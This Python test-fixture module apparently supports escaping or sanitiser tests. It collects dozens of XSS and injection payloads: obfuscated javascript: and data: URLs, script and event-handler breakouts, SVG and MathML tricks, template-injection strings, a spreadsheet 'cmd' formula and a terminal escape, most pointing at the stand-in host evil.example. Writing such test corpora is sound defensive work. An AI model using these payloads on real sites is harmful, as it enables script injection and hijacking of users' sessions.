"""Text that would run a script, load something or lead somewhere, wherever it was not escaped."""

from __future__ import annotations

HOST = "evil.example"
"""No request may ever go there."""

CALL = "pwned"
"""The function that no text may ever call."""

_RUN = f"{CALL}(1)"
_LOAD = f"http://{HOST}/x"
_SVG = f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{_RUN}'/>"

LINKS = [
    f"javascript:{_RUN}",
    f"JaVaScRiPt:{_RUN}",
    f"java\tscript:{_RUN}",
    f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f" javascript:{_RUN}",
    f"javascript&colon;{_RUN}",
    f"&#106;avascript:{_RUN}",
    f"javascript://{HOST}/%0a{_RUN}",
    f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==",
    _SVG,
    f"vbscript:{_RUN}",
    f"view-source:{_LOAD}",
    f"blob:{_LOAD}",
    f"filesystem:{_LOAD}",
    f"//{HOST}/x",
    f"\\\\{HOST}\\x",
    f"https:\\\\{HOST}/x",
    f'https://example.org/"onmouseover={_RUN}//',
    f"https://example.org/'><script>{_RUN}</script>",
    f"https://example.org/` onfocus={_RUN} autofocus `",
]
"""Addresses that nothing may link to as they are, or that break out of an attribute."""

TEXTS = [
    f"<script>{_RUN}</script>",
    f"<ScRiPt >{_RUN}</sCrIpT>",
    f"<script src={_LOAD}.js></script>",
    f"<script type=module>import '{_LOAD}.js'</script>",
    f"<scr<script>ipt>{_RUN}</script>",
    f"</script><script>{_RUN}</script>",
    f"</textarea><script>{_RUN}</script>",
    f"</title><script>{_RUN}</script>",
    f"</style><script>{_RUN}</script>",
    f"--><script>{_RUN}</script>",
    f"]]><script>{_RUN}</script>",
    f'"><script>{_RUN}</script>',
    f"'><script>{_RUN}</script>",
    f"`><script>{_RUN}</script>",
    f"<img src=x onerror={_RUN}>",
    f"<img src=x onerror='{_RUN}'",
    f"<img/src=x/onerror={_RUN}//",
    f"<img src={_LOAD}.png>",
    f"<img srcset='{_LOAD}.png 2x'>",
    f"<img src='{_SVG}'>",
    f"<image href={_LOAD}.png>",
    f"<svg onload={_RUN}>",
    f"<svg><script>{_RUN}</script></svg>",
    f"<svg><animate onbegin={_RUN} attributeName=x dur=1s>",
    f"<svg><a xlink:href='javascript:{_RUN}'><text>x</text></a></svg>",
    f"<svg><use href='{_LOAD}.svg#a'></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={_RUN}>",
    f"<math href='javascript:{_RUN}'>x</math>",
    f"<iframe src='javascript:parent.{_RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_RUN}</script>'></iframe>",
    f"<object data={_LOAD}></object>",
    f"<embed src={_LOAD}>",
    f"<video src={_LOAD} onerror={_RUN}></video>",
    f"<audio><source src={_LOAD} onerror={_RUN}></audio>",
    f"<details open ontoggle={_RUN}>",
    f"<input autofocus onfocus={_RUN}>",
    f"<select autofocus onfocus={_RUN}>",
    f"<body onload={_RUN}>",
    f"<marquee onstart={_RUN}>",
    f"<x contenteditable autofocus onfocus={_RUN} tabindex=1>",
    f"<p style='animation:x' onanimationstart={_RUN}>",
    f"<style>@import '{_LOAD}.css'; @font-face{{font-family:x;src:url({_LOAD}.woff)}}</style>",
    f"<p style='background:url({_LOAD}.png)'>",
    f"<link rel=stylesheet href={_LOAD}.css>",
    f"<link rel=prefetch href={_LOAD}>",
    f"<meta http-equiv=refresh content='0;url={_LOAD}'>",
    f"<base href={_LOAD}/>",
    f"<form action={_LOAD}><button autofocus>x</button></form>",
    f"<button formaction='javascript:{_RUN}'>x</button>",
    f"<a href='javascript:{_RUN}'>x</a>",
    f"<template shadowrootmode=open><script>{_RUN}</script></template>",
    f'<noscript><p title="</noscript><img src=x onerror={_RUN}>">',
    f"<xmp><img src=x onerror={_RUN}>",
    "<plaintext>",
    "<!--",
    f"![x]({_LOAD}.png)",
    f"[x](javascript:{_RUN})",
    f"![x](x'\"onerror={_RUN})",
    f"<{_LOAD}>",
    f"[x]: {_LOAD} '{_RUN}'",
    f"$${{\\href{{javascript:{_RUN}}}{{x}}}}$$",
    f"{{{{constructor.constructor('{_RUN}')()}}}}",
    f"${{{_RUN}}}",
    f"#{{{_RUN}}}",
    f"<%= {_RUN} %>",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"\ufe64script\ufe65{_RUN}\uff1c/script\uff1e",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"\u2028<script>{_RUN}</script>\u2029",
    f"=cmd|' /C calc'!A0 {_RUN}",
    "\x1b]8;;javascript:pwned(1)\x07x\x1b]8;;\x07",
]
"""What stands for a title, a source, a name, a text, a question."""

ALL = [*TEXTS, *LINKS]
